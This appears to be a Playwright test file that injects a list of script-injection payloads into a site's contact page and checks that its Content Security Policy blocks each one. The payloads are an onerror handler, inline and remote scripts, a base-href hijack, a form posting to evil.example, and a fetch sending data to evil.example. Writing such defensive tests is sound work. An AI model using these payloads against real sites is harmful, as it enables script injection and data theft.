import {expect, test} from './support';

/** What a page's policy blocks. That it blocks nothing of a page itself: pages.spec.ts. */
declare global {
  interface Window {
    /** What was blocked, by its directive. */
    violations: string[];
  }
}

/** What is put into the page, and what the policy forbids of it. */
const attacks = [
  ['<img src="/nope.png" onerror="document.title = \'taken over\'">', 'script-src-attr'],
  ['<p style="position: fixed; inset: 0">', 'style-src-attr'],
  ['<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  ['<script>document.title = "taken over"</script>', 'script-src-elem'],
  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
  ['<base href="https://evil.example/">', 'base-uri'],
  ['<form action="https://evil.example/" method="post"></form>', 'form-action'],
  ['a request to another server', 'connect-src'],
] as const;

test('scripts, styles, frames, forms and requests from outside do nothing', async ({page, problems}) => {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
      window.violations.push(effectiveDirective),
    );
  });
  const reached: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await page.goto('/contact');
  for (const [attack, directive] of attacks) {
    const before = await page.evaluate(() => window.violations.length);
    problems.length = 0;
    await page.evaluate((markup) => {
      // Scripts of a fragment run.
      document.body.append(document.createRange().createContextualFragment(markup));
      document.querySelector<HTMLFormElement>('body > form')?.submit();
      if (!markup.startsWith('<')) fetch('https://evil.example/?stolen').catch(() => {}); // as expected
    }, attack);
    const blocked = () => page.evaluate((before) => window.violations.slice(before), before);
    await expect.poll(blocked, attack).toContain(directive);
    // It is written to the console, where every other test fails on it.
    await expect.poll(() => problems.length, attack).toBeGreaterThan(0);
  }
  expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
  expect(page.url()).toMatch(/\/contact$/);
  expect(reached).toEqual([]);
  problems.length = 0;
});
